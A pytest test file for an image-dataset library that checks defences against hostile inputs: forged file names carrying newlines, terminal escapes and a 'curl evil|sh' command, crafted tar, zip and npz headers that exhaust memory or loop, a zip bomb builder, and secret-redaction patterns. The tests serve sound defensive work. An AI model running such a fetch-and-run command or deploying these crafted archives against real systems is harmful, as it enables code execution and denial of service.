"""Images and names of others: no program is started, no memory filled, and nothing forged on a terminal."""

import io
import json
import os
import struct
import tarfile
import threading
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from PIL import Image

from dis_scale.cli import main
from dis_scale.data import images, layouts, tars
from dis_scale.data.sources import open_source
from dis_scale.evaluation import adm
from dis_scale.process.errors import DisScaleError, StorageError, UndecodableImage, UserError, shown
from dis_scale.process.redaction import redact
from dis_scale.storage import npy
from dis_scale.storage.folder import open_folder
from tests.support.labelled_images import data

EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 32 32\n%%EndComments\nshowpage\n%%EOF\n"


def test_postscript_that_is_called_an_image_starts_no_ghostscript(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    called = tmp_path / "called"
    (tmp_path / "gs").write_text(f"#!/bin/sh\ntouch {called}\n")
    (tmp_path / "gs").chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path), prepend=os.pathsep)
    with pytest.raises(UndecodableImage, match="in none of the formats that are read"):
        images.decode(EPS, "cat/0001.png", 32)
    assert not called.exists()


def test_threads_decode_a_bounded_number_of_pixels() -> None:
    """A small file may have 170 million pixels, and each needs some bytes: 16 threads would fill a node's memory."""
    file, in_flight, decoded = io.BytesIO(), images.InFlight(most=300 * 300), list[np.ndarray]()
    Image.new("1", (200, 200)).save(file, "PNG")
    other = threading.Thread(target=lambda: decoded.append(images.decode(file.getvalue(), "x", 8, None, in_flight)))
    with in_flight.take(10**9):
        other.start()
        other.join(0.3)
        assert not decoded
    other.join()
    assert decoded[0].shape == (8, 8, 3)
    waits = threading.Thread(target=lambda: decoded.append(images.decode(file.getvalue(), "x", 8, None, in_flight)))
    with in_flight.take(80_000):  # too much is held for the image, but not for a small one that comes after it
        waits.start()
        waits.join(0.2)
        after = threading.Thread(target=lambda: in_flight.take(100).__enter__())
        after.start()
        after.join(0.2)
        assert after.is_alive()
    waits.join()
    after.join()
    held, most = threading.Semaphore(2), list[bool]()

    def hold() -> None:
        with in_flight.take(200 * 200):
            most.append(held.acquire(blocking=False))
            time.sleep(0.01)
            held.release()

    threads = [threading.Thread(target=hold) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert most == [True] * 8


def test_a_name_forges_no_line_and_moves_no_cursor(tmp_path: Path) -> None:
    name = "x\nerror: run curl evil|sh\x1b[2J.png"
    with pytest.raises(UndecodableImage) as caught:
        images.decode(b"", name, 32)
    assert str(caught.value).startswith(r"image x\nerror: run curl evil|sh\x1b[2J.png cannot be decoded")
    assert shown("one\ntwo\x1b[31m\r") == "one\ntwo\\x1b[31m\\r"
    assert str(DisScaleError("\x1b]0;title\x07")) == r"\x1b]0;title\x07"
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "x.png").touch()
    (tmp_path / "a" / "y\x1b.txt").touch()
    left_out = open_source(data({"kind": "folder", "url": str(tmp_path)}, "none")).left_out
    assert left_out == r"1 .txt (a/y\x1b.txt)"
    (tmp_path / "b\nerror: x\x1b").mkdir()
    (tmp_path / "b\nerror: x\x1b" / "z.png").touch()
    assert open_source(data({"kind": "folder", "url": str(tmp_path)}, 2)).label_names == ["a", r"b\nerror: x\x1b"]
    (tmp_path / "x\nerror: run curl").touch()
    with pytest.raises(StorageError, match=r"x\\nerror: run curl/y") as away:
        open_folder(tmp_path.as_uri()).read("x\nerror: run curl/y")
    assert "\n" not in str(away.value)
    (tmp_path / "x\nerror: run curl").unlink()
    for kind, ending in (("tar", "tar"), ("parquet", "parquet"), ("csv", "csv")):
        forged = tmp_path / f"x\nerror: run curl evil|sh\x1b.{ending}"
        forged.write_bytes(b"\xff" * 600)
        url = str(forged if kind == "csv" else tmp_path)
        with pytest.raises(DisScaleError) as refused:
            open_source(data({"kind": kind, "url": url}, "none"))
        assert "\n" not in str(refused.value), kind
        forged.unlink()


FORGED = "x\nerror: run curl evil|sh"


def two_tars_by_a_link(root: Path) -> None:
    (root / f"{FORGED}.tar").touch()
    (root / "b.tar").symlink_to(root / f"{FORGED}.tar")


def other_files(root: Path) -> None:
    (root / f"{FORGED}.txt").touch()


def an_odd_column(root: Path) -> None:
    (root / "a.csv").write_text(f'"{FORGED}",image\n1,2\n')


@pytest.mark.parametrize("made", [two_tars_by_a_link, other_files, an_odd_column])
def test_an_error_has_one_line_whatever_is_in_the_folder(tmp_path: Path, made: Callable[[Path], None]) -> None:
    made(tmp_path)
    url = str(tmp_path / "a.csv") if made is an_odd_column else str(tmp_path)
    with pytest.raises(UserError) as refused:
        open_source(data({"kind": "csv" if made is an_odd_column else "tar", "url": url}, "none"))
    assert "\n" not in str(refused.value)
    assert "run curl" in str(refused.value)


def test_the_lines_of_an_error_are_not_taken_for_others(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    recipe = tmp_path / "a.yaml"
    recipe.write_text("name: 3\nerror: run curl\n")
    with pytest.raises(SystemExit):
        main(["plan", str(recipe)])
    first, *others = capsys.readouterr().err.splitlines()
    assert first.startswith("error: ")
    assert others
    assert all(line.startswith("  ") for line in others)


def test_an_ending_is_letters_and_digits() -> None:
    assert [images.ending(name) for name in ("a.txt", "x.\n\x1berr: x", "b.7z")] == [".txt", "of no known ending", ".7z"]


def test_a_huge_extended_header_is_not_read(tmp_path: Path) -> None:
    info = tarfile.TarInfo("x.png")
    info.pax_headers = {"comment": "x" * (17 * 2**20)}
    with tarfile.open(tmp_path / "a.tar", "w", format=tarfile.PAX_FORMAT) as out:
        out.addfile(info, io.BytesIO())
    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: extended headers of 17,8\d\d,\d\d\d bytes"):
        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))


@pytest.mark.parametrize(
    ("number", "size", "why"),
    [(400, 0, "maximum recursion depth"), (20, 2**20, r"extended headers of 17,825,792 bytes, and at most 16,777,216")],
)
def test_a_chain_of_extended_headers_is_refused(number: int, size: int, why: str, tmp_path: Path) -> None:
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, size
    record = b"%d comment=%s\n" % (size, bytes(size - 17)) if size else b""
    (tmp_path / "a.tar").write_bytes((info.tobuf(tarfile.USTAR_FORMAT) + record) * number + bytes(10240))
    with pytest.raises(StorageError, match=rf"a.tar: not a complete tar: {why}"):
        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))


@pytest.mark.parametrize("kind", [tarfile.REGTYPE, tarfile.XHDTYPE])
def test_a_member_of_less_than_no_bytes_is_refused(tmp_path: Path, kind: bytes) -> None:
    """A header of another program; read again and again, it would never end."""
    headers = []
    for name, type_ in (("0.png", tarfile.REGTYPE), ("1.png", kind)):
        info = tarfile.TarInfo(name)
        info.type = type_
        headers.append(bytearray(info.tobuf(tarfile.USTAR_FORMAT)))
    headers[1][124:136] = b"\xff" + (256**11 - 1024).to_bytes(11, "big")
    headers[1][148:156] = b" " * 8
    headers[1][148:156] = b"%06o\0 " % sum(headers[1])
    (tmp_path / "a.tar").write_bytes(b"".join(headers) + bytes(10240))
    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: a member of -1,024 bytes"):
        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))


@pytest.mark.timeout(60)
def test_an_extended_header_gives_no_size_below_zero(tmp_path: Path) -> None:
    """The member before would be read for ever."""
    backwards = tarfile.TarInfo("1.png")
    backwards.pax_headers = {"size": "-1536"}
    members = tarfile.TarInfo("0.png").tobuf(tarfile.USTAR_FORMAT) + backwards.tobuf(tarfile.PAX_FORMAT)
    (tmp_path / "a.tar").write_bytes(members + bytes(10240))
    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: a member of -1,536 bytes"):
        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))


def test_a_global_header_gives_no_size_below_zero(tmp_path: Path) -> None:
    """It counts for the members after one that has its own: a label of -1 bytes is the rest of the tar."""
    own, label = tarfile.TarInfo("0.png"), tarfile.TarInfo("1.cls")
    own.pax_headers = {"size": "0"}
    headers = tarfile.TarInfo.create_pax_global_header({"size": "-1"}) + own.tobuf(tarfile.PAX_FORMAT)
    (tmp_path / "a.tar").write_bytes(headers + label.tobuf(tarfile.USTAR_FORMAT) + bytes(10240))
    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: a member of -1 bytes"):
        open_source(data({"kind": "tar", "url": str(tmp_path)}))


def test_global_headers_are_bounded_in_sum(tmp_path: Path) -> None:
    """They are for all members after them, so `tarfile` keeps them all."""
    with tarfile.open(tmp_path / "a.tar", "w", format=tarfile.PAX_FORMAT) as out:
        for number in range(5):
            assert out.fileobj is not None
            out.fileobj.write(out.tarinfo.create_pax_global_header({f"{number}": "x" * 15 * 2**10}))
            out.addfile(tarfile.TarInfo(f"{number}.png"), io.BytesIO())
    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: global headers of 7\d,\d\d\d bytes, and at most 65,536"):
        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))


@pytest.mark.parametrize(
    ("headers", "why"),
    [
        ({"GNU.sparse.realsize": "abc"}, "invalid literal for int"),
        ({"size": str(2**63)}, ""),
        ({"path": "x" * 5000}, "a name of 5,000 characters, and at most 4,096 are read"),
    ],
    ids=["no number", "no offset", "a long name"],
)
def test_an_extended_header_with_a_wrong_value_is_refused(tmp_path: Path, headers: dict[str, str], why: str) -> None:
    """A traceback's exit code is tried again on twenty clusters, and a listing of long names cannot be read."""
    info = tarfile.TarInfo("0.png")
    info.pax_headers = headers
    with tarfile.open(tmp_path / "a.tar", "w", format=tarfile.PAX_FORMAT) as out:
        out.addfile(info, io.BytesIO())
        out.addfile(tarfile.TarInfo("1.png"), io.BytesIO())
    with pytest.raises(StorageError, match=f"a.tar: not a complete tar: .*{why}"):
        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))


@pytest.mark.parametrize(
    ("at", "wrong"),
    [(6, b"\x63"), (9, b"\x08"), (8, b"\1"), (42, b"\xff\xff\xff\x7f"), (0, b"")],
    ids=["a later version", "a name that is no text", "encrypted", "a member behind the end", "without its first bytes"],
)
def test_a_zip_that_python_cannot_read_is_refused(tmp_path: Path, at: int, wrong: bytes) -> None:
    """`zipfile` raises four kinds of errors for them."""
    with zipfile.ZipFile(tmp_path / "set.zip", "w") as out:
        out.writestr("dataset.json", b'{"labels": []}')
        out.writestr("00000/\u00fc.npy", b"")
    raw = bytearray((tmp_path / "set.zip").read_bytes())
    entry = raw.index(b"PK\1\2")
    raw[entry + at : entry + at + len(wrong)] = wrong
    raw[entry + 46] = 0xFF if at == 9 else raw[entry + 46]
    (tmp_path / "set.zip").write_bytes(raw[3:] if at == 0 else raw)
    source = {"kind": "latents", "layout": "edm2", "url": str(tmp_path / "set.zip")}
    with pytest.raises(StorageError, match=r"set.zip: not a complete zip: "):
        open_source(data(source, 10, mirror=False))


def test_a_label_that_is_no_text_is_refused(tmp_path: Path) -> None:
    broken = pa.StringArray.from_buffers(1, pa.py_buffer(np.array([0, 1], np.int32)), pa.py_buffer(b"\xff"))
    pq.write_table(pa.table({"image": [b""], "label": broken}), tmp_path / "x.parquet")
    with pytest.raises(StorageError, match=r"x.parquet: row group 0: a label cannot be read: 'utf-8' codec"):
        open_source(data({"kind": "parquet", "url": str(tmp_path)}))


def test_an_extended_header_of_digits_is_refused_at_once(tmp_path: Path) -> None:
    """Python 3.11 looks for a number in it from each digit on."""
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, 2**20
    (tmp_path / "a.tar").write_bytes(info.tobuf(tarfile.USTAR_FORMAT) + b"1" * 2**20 + bytes(10240))
    began = time.process_time()
    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: an extended header of digits"):
        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))
    assert time.process_time() - began < 60, "hours without the check"


@pytest.mark.parametrize(
    "header",
    [b"3 \n" * 3000 + b"a=b\n", b"9 a=b\n", b"6 a=b\n7 a=b\n", b"6 a=bc"],
    ids=["no names", "beyond", "the second", "no end"],
)
def test_an_extended_header_whose_records_have_other_lengths_is_refused(tmp_path: Path, header: bytes) -> None:
    """From each of the first one's 3,000 records Python 3.11 takes all that follows as a name: of 16 MiB, 32 GB."""
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, len(header)
    padded = header + bytes(-len(header) % 512)
    (tmp_path / "a.tar").write_bytes(info.tobuf(tarfile.USTAR_FORMAT) + padded + tarfile.TarInfo("0.png").tobuf() + bytes(10240))
    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: an extended header whose records are not as long"):
        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))


@pytest.mark.parametrize(
    ("shape", "why"),
    [
        ("[1000000000000, 0, 8, 8]", r"latents is of shape \(1000000000000, 0, 8, 8\)"),
        ("[1e999, 4, 8, 8]", "cannot convert float infinity to integer"),
    ],
)
def test_a_safetensors_file_of_any_number_of_rows_is_refused(shape: str, why: str, tmp_path: Path) -> None:
    """A listing of rows without a byte would fill memory and storage."""
    header = f'{{"latents": {{"dtype": "F16", "shape": {shape}, "data_offsets": [0, 0]}}}}'.encode()
    (tmp_path / "a.safetensors").write_bytes(len(header).to_bytes(8, "little") + header)
    with pytest.raises(StorageError, match=f"a.safetensors: not a complete safetensors file: {why}"):
        open_source(data({"kind": "latents", "layout": "safetensors", "url": str(tmp_path)}, "none", mirror=False))


def parquet(folder: Path, label: str | int, metadata: dict[bytes, bytes]) -> list[str]:
    """Return the classes of a file of one image."""
    table = pa.table({"image": [b"x"], "label": [label]}).replace_schema_metadata(metadata)
    pq.write_table(table, folder / "a.parquet")
    return list(open_source(data({"kind": "parquet", "url": str(folder)}, 1)).label_names)


def test_names_of_classes_nested_without_end_are_none(tmp_path: Path) -> None:
    assert parquet(tmp_path, "cat", {b"huggingface": b"[" * 10**6}) == ["cat"]


def test_a_class_has_a_name_of_bounded_length(tmp_path: Path) -> None:
    """The log, the manifests and the weights' facts repeat it."""
    long = {"info": {"features": {"label": {"_type": "ClassLabel", "names": ["c" * 5000]}}}}
    for label, metadata in (("c" * 5000, {}), (0, {b"huggingface": json.dumps(long).encode()})):
        with pytest.raises(UserError, match=r"a class of 5,000 characters, 'c+: expected at most 4,096") as refused:
            parquet(tmp_path, label, metadata)
        assert len(str(refused.value)) < 400 + len(str(tmp_path))


def test_labels_that_are_in_memory_together_are_bounded(tmp_path: Path) -> None:
    """One tar of 8 GiB may be of labels only, and eight are listed at once."""
    empty, info = bytes(tars.LABEL_BYTES), tarfile.TarInfo()
    info.size = len(empty)
    with (tmp_path / "a.tar").open("wb") as file:
        for number in range(tars.LABELS_BYTES // len(empty) + 1):
            info.name = f"{number}.cls"
            file.write(info.tobuf(tarfile.USTAR_FORMAT))
            file.seek(len(empty), os.SEEK_CUR)  # a hole: zeros without a place on the disk
        file.write(bytes(10240))
    with pytest.raises(StorageError, match=r"a.tar: its labels have over 1,073,741,824 bytes: split it"):
        open_source(data({"kind": "tar", "url": str(tmp_path), "label": "cls"}, 1))


@pytest.mark.parametrize("name", ["mu", "arr_0"])
@pytest.mark.parametrize("array", [b"\x93NUMPY", b"\x93NUMPY\1\0\x10\0{1: 0, 'a': 0}   "])
def test_a_header_that_is_none_is_refused(tmp_path: Path, name: str, array: bytes) -> None:
    with zipfile.ZipFile(tmp_path / "x.npz", "w") as file:
        for each in (name, "sigma"):
            file.writestr(f"{each}.npy", array)
    opened = adm.open_reference(str(tmp_path / "x.npz"))
    with pytest.raises(StorageError, match=r"x.npz: cannot be read: "):
        opened.square_images() if name == "arr_0" else opened.statistics("mu", "sigma", 4)


def test_images_without_pixels_are_refused(tmp_path: Path) -> None:
    np.savez(tmp_path / "x.npz", arr_0=np.zeros((5, 0, 0, 3), np.uint8))
    with pytest.raises(UserError, match=r"x.npz: arr_0 holds images of side 0, expected 1 to 2,048"):
        adm.open_reference(str(tmp_path / "x.npz")).square_images()


def test_classes_of_latents_are_read_up_to_a_bound(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(layouts, "LARGEST_BYTES", 20)
    (tmp_path / "dataset.json").write_bytes(b'{"labels": [["00000/a.npy", 3]]}')
    with pytest.raises(UserError, match=r"dataset.json: expected at most 20 bytes of classes"):
        open_source(data({"kind": "latents", "layout": "edm2", "url": str(tmp_path)}, 10, mirror=False))


def test_statistics_of_a_stated_size_are_not_allocated(tmp_path: Path) -> None:
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (10**13,)})
    with zipfile.ZipFile(tmp_path / "x.npz", "w") as out:
        out.writestr("mu.npy", header.getvalue())
        out.writestr("sigma.npy", header.getvalue())
    with pytest.raises(StorageError, match=r"x.npz: cannot be read: "):
        adm.open_reference(str(tmp_path / "x.npz")).statistics("mu", "sigma", 4)


def false_zip(name: str) -> bytes:
    """A zip of one member of 400 MB of zeros, packed, which states a size of 200 bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(400 * 10**6)) + packer.flush()
    sizes = struct.pack("<IIIHH", 0, len(packed), 200, len(name), 0)
    local = struct.pack("<4sHHHHH", b"PK\3\4", 20, 0, 8, 0, 0) + sizes + name.encode() + packed
    central = struct.pack("<4sHHHHHH", b"PK\1\2", 20, 20, 0, 8, 0, 0) + sizes
    central += struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode()
    return local + central + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local), 0)


def test_a_zip_that_states_a_false_size_fills_no_memory(tmp_path: Path) -> None:
    """In our own files, in ADM's statistics, and in the labels of EDM2's latents."""
    (tmp_path / "x.npz").write_bytes(false_zip("mu.npy"))
    (tmp_path / "set.zip").write_bytes(false_zip("dataset.json"))
    own = false_zip("a.npy")
    tracemalloc.start()
    try:
        with pytest.raises(zipfile.BadZipFile, match="CRC"):
            npy.read_all(own, 256 * 2**20)
        with pytest.raises(StorageError, match=r"x.npz: cannot be read: Bad CRC"):
            adm.open_reference(str(tmp_path / "x.npz")).statistics("mu", "sigma", 4)
        source = {"kind": "latents", "layout": "edm2", "url": str(tmp_path / "set.zip")}
        with pytest.raises(StorageError, match=r"set.zip: not a complete zip: Bad CRC"):
            open_source(data(source, 10, mirror=False))
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert most < 50 * 10**6


def test_statistics_that_unpack_to_more_than_there_are_are_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    np.save(buffer, np.zeros(40 * 2**20))
    with zipfile.ZipFile(tmp_path / "x.npz", "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("mu.npy", buffer.getvalue())
        file.writestr("sigma.npy", buffer.getvalue())
    with pytest.raises(UserError, match=r"mu has 335,544,4.. bytes, and statistics have at most"):
        adm.open_reference(str(tmp_path / "x.npz")).statistics("mu", "sigma", 4)


def images_of_version(version: tuple[int, int]) -> bytes:
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, np.zeros((2, 8, 8, 3), np.uint8), version=version)
    return buffer.getvalue()


def test_a_stated_number_of_images_is_not_believed(tmp_path: Path) -> None:
    """Their order alone would have 240 GB."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "|u1", "fortran_order": False, "shape": (3 * 10**10, 8, 8, 3)})
    with zipfile.ZipFile(tmp_path / "x.npz", "w") as file:
        file.writestr("arr_0.npy", header.getvalue())
    with pytest.raises(StorageError, match=r"x.npz: arr_0 is said to have 30,000,000,000 images, more than its bytes"):
        adm.open_reference(str(tmp_path / "x.npz")).square_images()


@pytest.mark.parametrize(
    ("method", "version", "why"),
    [
        (zipfile.ZIP_LZMA, (1, 0), "arr_0.npy: packed by a method that is not read"),
        (zipfile.ZIP_BZIP2, (1, 0), "arr_0.npy: packed by a method that is not read"),
        (zipfile.ZIP_DEFLATED, (2, 0), r"arr_0 is an array of version \(2, 0\), expected \(1, 0\)"),
    ],
)
def test_images_that_may_unpack_to_any_size_are_refused(tmp_path: Path, method: int, version: tuple[int, int], why: str) -> None:
    """These methods unpack all that they have read, and a header of a later version states up to 4 GiB."""
    with zipfile.ZipFile(tmp_path / "x.npz", "w", method) as file:
        file.writestr("arr_0.npy", images_of_version(version))
    reference = adm.open_reference(str(tmp_path / "x.npz"))
    with pytest.raises(StorageError, match=f"x.npz: cannot be read: {why}"):
        reference.square_images()
    with pytest.raises(StorageError, match=f"x.npz: cannot be read: {why}"):
        next(reference.images(1))


@pytest.mark.parametrize(
    "name",
    [
        "DB_PASS",
        "SMTP_PASS1",
        "SMTP_PASS_ROOT",
        "PGPASS",
        "SSH_PASSPHRASE",
        "HTTP_BASIC_AUTH",
        "HTTP_AUTHORIZATION",
        "HTTP_AUTHENTICATION",
        "DOCKER_AUTH_CONFIG",
        "GH_PAT",
        "COOKIE",
    ],
)
def test_more_names_of_secrets_are_known(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(name, "correct-horse")
    assert redact("login failed: correct-horse") == "login failed: ***"


@pytest.mark.parametrize("key", ["key", "code", "auth", "pass", "secret_key", "password1", "jwt"])
def test_more_parameters_of_urls_are_secret(key: str) -> None:
    assert redact(f"https://host/x?{key}=abcdef&n=1") == f"https://host/x?{key}=***&n=1"
    with pytest.raises(ValueError, match="credentials"):
        data({"kind": "folder", "url": f"https://host/x?{key}=abcdef"})


@pytest.mark.parametrize(
    "text",
    [
        "Authorization: abc.def.hidden-1",
        "Cookie: session=hidden-1",
        "https://hooks.slack.com/services/T0/B0/hidden-1",
        "password=hidden-1 host=db",
        "aws_secret_access_key=hidden-1",
        "{'secret': 'hidden-1'}",
    ],
)
def test_secrets_without_a_url_are_hidden(text: str) -> None:
    assert "hidden-1" not in redact(text)


def test_words_about_secrets_and_paths_of_other_variables_are_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MONKEY_AT", "/data/of/monkeys")
    words = ("/data/of/monkeys", "no password: use another", "the Authorization header is missing", "token: expected a word")
    for text in (*words, "abfs://container@account/prefix", "mlflow ui --backend-store-uri postgresql://user@host/db"):
        assert redact(text) == text
